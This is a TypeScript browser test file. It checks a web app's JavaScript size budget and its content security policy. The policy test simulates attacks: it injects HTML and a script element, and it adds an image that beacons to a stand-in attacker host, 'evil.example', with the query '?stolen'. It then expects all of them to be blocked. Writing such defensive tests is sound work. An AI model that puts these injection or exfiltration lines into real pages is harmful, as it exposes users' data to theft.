import { gzipSync } from "node:zlib";
import { expect } from "vitest";
import { test } from "./fixtures.ts";
import { posts } from "./person.ts";

const BUDGET_BYTES = 100_000;

test("the home page's first load stays under 100 kB of gzipped JavaScript, all of it from here", async ({
  app,
  context,
}) => {
  const page = await context.newPage();
  const scripts: string[] = [];
  const others: string[] = [];
  page.on("request", (request) => {
    if (request.resourceType() === "script") scripts.push(request.url());
    if (new URL(request.url()).origin !== app.url) others.push(request.url());
  });
  // The stream of new posts is what comes last.
  const stream = page.waitForResponse((response) =>
    (response.headers()["content-type"] ?? "").startsWith("text/event-stream"),
  );
  await page.goto("/");
  await posts(page).first().waitFor();
  await stream;
  const sizes = await Promise.all(
    scripts.map(async (url) => gzipSync(Buffer.from(await (await fetch(url)).arrayBuffer())).length),
  );
  const total = sizes.reduce((sum, size) => sum + size, 0);
  expect(scripts).not.toEqual([]);
  expect(total).toBeLessThan(BUDGET_BYTES);
  expect(others).toEqual([]);
});

test.describe("the content security policy", () => {
  test.override({
    expectedComplaints: [/Trusted(HTML|Script)/u, /HTMLScriptElement was directly modified/u, /img-src/u],
  });

  test("a script that somebody got into the page does not run, and no HTML is made of a string", async ({
    context,
  }) => {
    const page = await context.newPage();
    await page.goto("/");
    await posts(page).first().waitFor();
    const outcome = await page.evaluate(async () => {
      const stopped: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
        stopped.push(effectiveDirective),
      );
      const attempts = [
        () => document.body.insertAdjacentHTML("beforeend", "<b>injected</b>"),
        () => {
          const script = document.createElement("script");
          script.append("window.injected = true");
          document.body.append(script);
        },
        () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/?stolen" })),
      ];
      for (const attempt of attempts) {
        try {
          attempt();
        } catch {
          // Trusted Types throw.
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return {
        stopped: stopped.toSorted(),
        injected: "injected" in window,
        bold: document.querySelectorAll("b").length,
      };
    });
    expect(outcome).toEqual({
      stopped: ["img-src", "require-trusted-types-for", "require-trusted-types-for"],
      injected: false,
      bold: 0,
    });
  });
});
